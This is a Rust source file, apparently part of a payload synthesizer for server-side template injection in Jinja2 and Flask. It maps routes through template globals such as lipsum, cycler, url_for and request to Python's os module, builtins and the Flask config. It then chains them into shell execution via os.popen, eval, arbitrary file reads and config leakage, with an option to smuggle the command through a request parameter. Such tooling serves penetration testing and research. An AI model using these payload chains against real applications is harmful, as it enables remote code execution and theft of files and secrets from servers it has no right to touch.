//! Capability kinds and the equivalent routes that reach each of them

use crate::models::TemplateEnvironment;
use crate::synth::goal::{attr, call, global, item, string, Goal};
use serde::{Deserialize, Serialize};
use std::fmt;

/// Objects reachable from the template context
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ObjectTarget {
    /// The Flask application config
    Config,
    /// Python's `os` module
    OsModule,
    /// The builtins namespace
    Builtins,
}

/// Functions invoked with a string argument
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum CallTarget {
    /// `os.popen(command).read()`
    ShellCommand(String),
    /// Builtin `eval` of Python source
    Eval(String),
    /// Builtin `open(path).read()`
    ReadFile(String),
}

/// What the caller wants the payload to achieve
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Capability {
    Object(ObjectTarget),
    Call(CallTarget),
    /// Render this exact string
    Literal(String),
}

impl fmt::Display for Capability {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Capability::Object(ObjectTarget::Config) => write!(f, "config object"),
            Capability::Object(ObjectTarget::OsModule) => write!(f, "os module"),
            Capability::Object(ObjectTarget::Builtins) => write!(f, "builtins"),
            Capability::Call(CallTarget::ShellCommand(cmd)) => write!(f, "shell command {cmd:?}"),
            Capability::Call(CallTarget::Eval(code)) => write!(f, "eval {code:?}"),
            Capability::Call(CallTarget::ReadFile(path)) => write!(f, "read file {path:?}"),
            Capability::Literal(s) => write!(f, "literal {s:?}"),
        }
    }
}

/// One way of reaching a capability
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Route {
    pub name: String,
    pub goal: Goal,
    /// Text the rendered page must contain when the route works
    pub expects: Option<String>,
    /// Side parameter `(key, value)` the payload reads its argument from
    pub extra_param: Option<(String, String)>,
}

impl Route {
    fn new(name: impl Into<String>, goal: Goal) -> Self {
        Self {
            name: name.into(),
            goal,
            expects: None,
            extra_param: None,
        }
    }
}

/// Jinja2 globals whose constructor exposes module globals
const JINJA_CLASSES: [&str; 3] = ["cycler", "joiner", "namespace"];

/// Flask helpers exposed as template globals
const FLASK_FUNCTIONS: [&str; 2] = ["url_for", "get_flashed_messages"];

/// Every name the routes and capabilities are built from
pub fn names() -> &'static [&'static str] {
    &[
        "lipsum",
        "cycler",
        "joiner",
        "namespace",
        "config",
        "self",
        "url_for",
        "get_flashed_messages",
        "current_app",
        "request",
        "application",
        "values",
        "__globals__",
        "__init__",
        "__builtins__",
        "__dict__",
        "_TemplateReference__context",
        "os",
        "popen",
        "read",
        "eval",
        "open",
        "__import__",
        "get",
        "__getitem__",
        "print",
    ]
}

/// Maps capabilities to routes for one template environment
#[derive(Debug, Clone)]
pub struct ContextResolver {
    environment: TemplateEnvironment,
    arg_param: Option<String>,
}

impl ContextResolver {
    pub fn new(environment: TemplateEnvironment) -> Self {
        Self {
            environment,
            arg_param: None,
        }
    }

    /// In Flask, also offers every call with its string argument read
    /// from `request.values[key]`, the value travelling as a side parameter
    pub fn with_arg_param(mut self, key: Option<String>) -> Self {
        self.arg_param = key;
        self
    }

    /// Module globals dictionaries reachable from template globals,
    /// most broadly available first
    fn module_globals(&self) -> Vec<(String, Goal)> {
        let mut routes = vec![("lipsum".to_string(), attr(global("lipsum"), "__globals__"))];
        routes.extend(JINJA_CLASSES.iter().map(|name| {
            (
                (*name).to_string(),
                attr(attr(global(name), "__init__"), "__globals__"),
            )
        }));
        if self.environment == TemplateEnvironment::Flask {
            routes.extend(
                FLASK_FUNCTIONS
                    .iter()
                    .map(|name| ((*name).to_string(), attr(global(name), "__globals__"))),
            );
            routes.push((
                "request".to_string(),
                attr(attr(global("request"), "application"), "__globals__"),
            ));
        }
        routes
    }

    fn builtins(&self) -> Vec<Route> {
        self.module_globals()
            .into_iter()
            .map(|(via, globals)| Route::new(format!("{via} builtins"), item(globals, "__builtins__")))
            .collect()
    }

    fn os_module(&self) -> Vec<Route> {
        let direct = self
            .module_globals()
            .into_iter()
            .map(|(via, globals)| Route::new(format!("{via} os"), item(globals, "os")));
        let imported = self.builtins().into_iter().map(|b| {
            Route::new(
                format!("{} import os", b.name),
                call(item(b.goal, "__import__"), vec![string("os")]),
            )
        });
        direct.chain(imported).collect()
    }

    fn config(&self) -> Vec<Route> {
        if self.environment != TemplateEnvironment::Flask {
            return Vec::new();
        }
        let mut routes = vec![
            Route::new("config global", global("config")),
            Route::new(
                "template context",
                item(
                    attr(attr(global("self"), "__dict__"), "_TemplateReference__context"),
                    "config",
                ),
            ),
        ];
        routes.extend(FLASK_FUNCTIONS.iter().map(|name| {
            Route::new(
                format!("{name} current_app"),
                attr(item(attr(global(name), "__globals__"), "current_app"), "config"),
            )
        }));
        routes
    }

    /// Routes for a call taking the string `value`. `build` turns an
    /// argument goal into routes; the literal argument comes first, then
    /// the side-parameter variants.
    fn call_routes(&self, value: &str, build: impl Fn(Goal) -> Vec<Route>) -> Vec<Route> {
        let mut routes = build(string(value));
        if let (TemplateEnvironment::Flask, Some(key)) = (self.environment, &self.arg_param) {
            let smuggled = item(attr(global("request"), "values"), key);
            routes.extend(build(smuggled).into_iter().map(|route| Route {
                name: format!("{} with {key} param", route.name),
                extra_param: Some((key.clone(), value.to_string())),
                ..route
            }));
        }
        routes
    }

    /// Candidate routes for `capability`, in the order they should be tried
    pub fn routes(&self, capability: &Capability) -> Vec<Route> {
        match capability {
            Capability::Object(ObjectTarget::Config) => self.config(),
            Capability::Object(ObjectTarget::OsModule) => self.os_module(),
            Capability::Object(ObjectTarget::Builtins) => self.builtins(),
            Capability::Call(CallTarget::ShellCommand(cmd)) => self.call_routes(cmd, |arg| {
                self.os_module()
                    .into_iter()
                    .map(|os| {
                        let popen = call(attr(os.goal, "popen"), vec![arg.clone()]);
                        Route::new(os.name, call(attr(popen, "read"), Vec::new()))
                    })
                    .collect()
            }),
            Capability::Call(CallTarget::Eval(code)) => self.call_routes(code, |arg| {
                self.builtins()
                    .into_iter()
                    .map(|b| Route::new(b.name, call(item(b.goal, "eval"), vec![arg.clone()])))
                    .collect()
            }),
            Capability::Call(CallTarget::ReadFile(path)) => self.call_routes(path, |arg| {
                self.builtins()
                    .into_iter()
                    .map(|b| {
                        let file = call(item(b.goal, "open"), vec![arg.clone()]);
                        Route::new(b.name, call(attr(file, "read"), Vec::new()))
                    })
                    .collect()
            }),
            Capability::Literal(s) => vec![Route {
                name: "literal".to_string(),
                goal: string(s),
                expects: Some(s.clone()),
                extra_param: None,
            }],
        }
    }
}
